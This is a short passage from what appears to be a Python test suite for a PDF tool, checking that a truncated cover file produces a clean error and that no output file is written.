        assert_clean_error(result, "cover 'cut.pdf': is cut short")
        assert not (tmp_path / "out.pdf").exists()
